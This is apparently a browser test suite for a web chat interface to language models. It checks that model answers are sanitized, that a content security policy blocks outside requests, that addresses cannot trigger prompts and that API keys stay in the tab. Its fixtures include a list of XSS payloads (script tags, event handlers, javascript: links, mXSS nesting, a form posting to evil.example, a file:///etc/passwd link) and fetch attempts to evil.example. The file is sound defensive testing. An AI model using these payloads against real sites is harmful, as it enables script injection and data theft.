// What a model, a link to the page, a broken connection or a file may do to it: nothing but be shown.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { KEY, LOCKED, SERVER, choose, launch, open, send, settled } from "./browser.mjs";

let browser;

before(async () => {
  browser = await launch();
});

after(() => browser.close());

const HOSTILE = [
  "<script>globalThis.hacked = 1</script>",
  "<img src=x onerror='globalThis.hacked = 2'>",
  "<svg onload='globalThis.hacked = 3'><a xlink:href='javascript:globalThis.hacked = 4'>x</a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror='globalThis.hacked = 5'>",
  "<iframe srcdoc='<script>parent.hacked = 6</script>'></iframe>",
  "![a picture](https://tracker.example/pixel.png?text=secret)",
  "![x](javascript:globalThis.hacked=7) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[one](javascript:globalThis.hacked=8) [two](JaVaScRiPt:globalThis.hacked=9) [three](data:text/html,x)",
  "[four](vbscript:x) [five](&#106;avascript:globalThis.hacked=10) [six](file:///etc/passwd) [seven](//evil.example)",
  "<javascript:globalThis.hacked=11> <https://safe.example/a?b=c&d=%22>",
  '[eight](https://safe.example "onmouseover=globalThis.hacked=12 x=\\"")',
  '```"><img/src/onerror=globalThis.hacked=13>\n</code></pre><script>globalThis.hacked = 14</script>\n```',
  "```html\n<script>globalThis.hacked = 15</script>\n```",
  "<form action='https://evil.example'><input name=key><button>Send</button></form>",
  "<style>body { display: none }</style><div style='position:fixed'>x</div>",
  "<a id=prompt name=prompt href='https://safe.example'>clobber</a>",
].join("\n\n");

test("nothing that a model writes runs, loads, submits or leads anywhere but to the web", async () => {
  const { page, seen, close } = await open(browser, { answers: [{ text: HOSTILE }] });
  await choose(page, "Chat");
  await send(page, "<img src=x onerror='globalThis.hacked = 20'><b>bold</b>");
  await settled(page);
  await page.locator(".markdown .code").nth(1).waitFor();
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => globalThis.hacked), undefined);
  const inside = page.locator(".turns");
  assert.equal(
    await inside
      .locator("script, img, iframe, form, input, style, object, embed, math, .body svg:not(button svg)")
      .count(),
    0,
  );
  assert.equal(await inside.locator("[style], [onerror], [onload], .body [id], .body [name]").count(), 0);
  const links = await inside
    .locator("a")
    .evaluateAll((all) => all.map((a) => [a.href, a.rel, a.target, a.textContent]));
  assert.ok(links.length >= 3);
  for (const [href, rel, target] of links) {
    assert.match(href, /^https:\/\/(safe|tracker|evil)\.example\//);
    assert.equal(rel, "noopener noreferrer");
    assert.equal(target, "_blank");
  }
  assert.ok(links.some(([href, , , text]) => href.startsWith("https://tracker") && text === "a picture"));
  assert.equal(
    await page.locator(".asked .text").innerText(),
    "<img src=x onerror='globalThis.hacked = 20'><b>bold</b>",
  );
  assert.equal(await page.locator(".conversations b").count(), 0);
  assert.ok(
    seen.requests.every((url) => url.startsWith(SERVER)),
    seen.requests.join(" "),
  );
  assert.deepEqual(seen.faults, []); // nor did it get as far as the policy
  await close();
});

test("the policy stops what would get past everything else", async () => {
  const { page, seen, close } = await open(browser);
  const outcome = await page.evaluate(async () => {
    const tried = {};
    try {
      document.body.innerHTML = "<b>x</b>";
      tried.html = true;
    } catch {
      tried.html = false;
    }
    tried.fetched = await fetch("https://evil.example/").then(
      () => true,
      () => false,
    );
    const image = new Image();
    image.src = "https://evil.example/x.png";
    tried.image = await new Promise((done) => {
      image.onload = () => done(true);
      image.onerror = () => done(false);
    });
    const button = document.createElement("button");
    document.body.append(button);
    try {
      button.setAttribute("onclick", "globalThis.hacked = 1");
    } catch {
      // not even that
    }
    button.click();
    tried.inline = globalThis.hacked === 1;
    return tried;
  });
  assert.deepEqual(outcome, { html: false, fetched: false, image: false, inline: false });
  assert.ok(seen.faults.length >= 3);
  await close();
});

test("an address never asks a model anything, whatever stands in it", async () => {
  const said = "prompt=Hello&q=Hello&message=Hello&text=Hello&send=1&autosubmit=true";
  for (const path of [`/?${said}`, `/#${said}`, `/?${said}#${said}`, "/#Hello"]) {
    const { page, seen, close } = await open(browser, { path });
    await page.locator(".welcome").waitFor();
    await page.waitForTimeout(400);
    assert.deepEqual(seen.posts, []);
    assert.equal(await page.locator("#prompt").inputValue(), "");
    assert.equal(await page.locator(".turn").count(), 0);
    await close();
  }
});

test("a server with keys asks for one, keeps it in the tab only and says if it is wrong", async () => {
  const { page, seen, close } = await open(browser, { server: LOCKED });
  const dialog = page.getByRole("dialog");
  await dialog.waitFor();
  assert.equal(await page.getByLabel("Key", { exact: true }).getAttribute("type"), "password");
  await page.getByLabel("Key", { exact: true }).fill("wrong-key-of-sixteen-characters");
  await page.keyboard.press("Enter");
  await page.getByText("The server does not know that key.").waitFor();
  await page.getByLabel("Key", { exact: true }).fill(KEY);
  await page.getByRole("button", { name: "Use this key" }).click();
  await dialog.waitFor({ state: "hidden" });
  await page.locator("#model option").first().waitFor({ state: "attached" });
  await send(page, "Hello");
  await settled(page);
  assert.equal(seen.posts.length, 1);
  await page.waitForTimeout(600); // conversations are kept by now
  const kept = await page.evaluate(() => [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })]);
  assert.ok(!kept[0].includes(KEY) && kept[0].includes("Hello"));
  assert.ok(kept[1].includes(KEY));
  await page.reload();
  await page.locator("#model option").first().waitFor({ state: "attached" });
  assert.equal(await dialog.isVisible(), false);
  await close();
});

test("without a key the page says so and offers to try again", async () => {
  const { page, close } = await open(browser, { server: LOCKED });
  await page.getByRole("button", { name: "Not now" }).click();
  await page.getByRole("alert").getByRole("button", { name: "Try again" }).click();
  await page.getByRole("dialog").waitFor();
  await close();
});

test("errors stand where the answer would, with a way to try again", async () => {
  const answers = [
    { text: "the queue of this model is full", status: 429 },
    { text: "Half of an answer", breaksOff: true },
    { text: "All is **well**" },
  ];
  const { page, close } = await open(browser, { answers });
  await choose(page, "Chat");
  await send(page, "Hello");
  const error = page.locator(".answer .error");
  await error.getByText("The queue of this model is full. Try again in 3 s.").waitFor();
  await page.getByRole("button", { name: "Try again" }).click();
  await error.getByText("broke off").waitFor();
  assert.equal(await page.locator(".answer .body").innerText(), "Half of an answer");
  await page.getByRole("button", { name: "Try again" }).click();
  await page.locator(".body strong").waitFor();
  assert.equal(await error.count(), 0);
  await close();
});

test("what the server refuses is shown in its own words", async () => {
  const { page, close } = await open(browser);
  await choose(page, "Chat");
  await page.getByRole("combobox", { name: "Model", exact: true }).selectOption("tiny");
  await choose(page, "Chat");
  await send(page, "word ".repeat(400)); // more than the tiny model's context of 256
  await page
    .locator(".error")
    .getByText(/tokens/)
    .waitFor();
  await close();
});

test("conversations outlive the page, go to a file and come back, and a bad file harms nothing", async () => {
  const { page, close } = await open(browser, { answers: [{ text: "One **answer**" }] });
  await choose(page, "Chat");
  await send(page, "Keep this");
  await settled(page);
  await page.reload();
  await page.getByRole("button", { name: "Keep this", exact: true }).click();
  assert.equal(await page.locator(".body strong").innerText(), "answer");
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Export" }).click(),
  ]);
  const path = await download.path();
  await page.getByRole("listitem").hover();
  await page.getByRole("button", { name: "Delete “Keep this”" }).click();
  assert.equal(await page.getByRole("listitem").count(), 0);
  const file = { name: "x.json", mimeType: "application/json" };
  for (const text of [
    "{",
    "[]",
    '{"jemma": "conversations"}',
    '{"jemma": "conversations", "conversations": [null, 3, {"turns": 1}]}',
  ]) {
    await page.setInputFiles("#import-file", { ...file, buffer: Buffer.from(text) });
    await page.waitForTimeout(100);
    assert.equal(await page.getByRole("listitem").count(), 0);
  }
  await page.setInputFiles("#import-file", path);
  await page.getByRole("button", { name: "Keep this", exact: true }).click();
  assert.equal(await page.locator(".body strong").innerText(), "answer");
  await close();
});
